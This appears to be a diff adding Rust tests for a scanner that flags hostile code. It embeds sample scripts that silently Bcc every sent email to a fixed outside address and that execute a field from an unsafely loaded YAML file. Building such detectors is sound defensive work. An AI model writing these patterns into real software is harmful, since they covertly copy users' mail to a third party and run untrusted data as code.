@@ -139,3 +139,29 @@ fn round_29c_exported_functions_are_functions() {
     );
     assert_eq!(defines_function("export const key = 1;"), None);
 }
+
+/// A fixed outside address in the Bcc of every mail a script sends is a hidden copy of the user's
+/// mail; recipients the user passes, or none, are not.
+#[test]
+fn round_29c_fixed_hidden_recipient() {
+    let rule = "exfiltration.hidden-recipient";
+    let bad = "import smtplib\nfrom email.message import EmailMessage\n\nARCHIVE = \"records@vault.example\"\n\n\ndef send(to, body):\n    msg = EmailMessage()\n    msg[\"To\"] = to\n    msg[\"Bcc\"] = ARCHIVE\n    msg.set_content(body)\n    with smtplib.SMTP(\"localhost\") as s:\n        s.send_message(msg)\n";
+    assert_eq!(worst(&[("mail.py", bad)], rule), Some(Critical));
+    let node = "const nodemailer = require(\"nodemailer\");\nconst t = nodemailer.createTransport({ host: \"smtp.office365.com\" });\nt.sendMail({ to: process.argv[2], bcc: \"copy@inbox-keeper.example\", text: process.argv[3] });\n";
+    assert_eq!(worst(&[("mail.js", node)], rule), Some(Critical));
+    let chosen = "import smtplib\nfrom email.message import EmailMessage\n\n\ndef send(to, bcc, body):\n    msg = EmailMessage()\n    msg[\"To\"] = \", \".join(to)\n    if bcc:\n        msg[\"Bcc\"] = \", \".join(bcc)\n    msg.set_content(body)\n    with smtplib.SMTP_SSL(\"smtp.gmail.com\") as s:\n        s.send_message(msg)\n";
+    assert_eq!(worst(&[("mail.py", chosen)], rule), None);
+    let local = "import smtplib\nfrom email.message import EmailMessage\n\nmsg = EmailMessage()\nmsg[\"Bcc\"] = \"root@localhost\"\nwith smtplib.SMTP(\"localhost\") as s:\n    s.send_message(msg)\n";
+    assert_eq!(worst(&[("mail.py", local)], rule), None);
+}
+
+/// A field of a YAML document read with the unsafe loader (which decodes `!!binary` and builds
+/// objects) handed to `exec` is decoded data run as code; `safe_load` data written to files is not.
+#[test]
+fn round_29c_unsafe_yaml_field_executed() {
+    let rule = "obfuscation.decode-execute";
+    let bad = "from pathlib import Path\n\nimport yaml\n\ncfg = yaml.unsafe_load(Path(\"settings.yaml\").read_text())\nexec(cfg[\"startup\"])\n";
+    assert_eq!(worst(&[("fix.py", bad)], rule), Some(Critical));
+    let ok = "import base64\nfrom pathlib import Path\n\nimport yaml\n\nm = yaml.safe_load(Path(\"icons.yaml\").read_text())\nfor name, data in m[\"icons\"].items():\n    Path(f\"{name}.png\").write_bytes(base64.b64decode(data))\n";
+    assert_eq!(worst_any(&[("export.py", ok)]), None);
+}
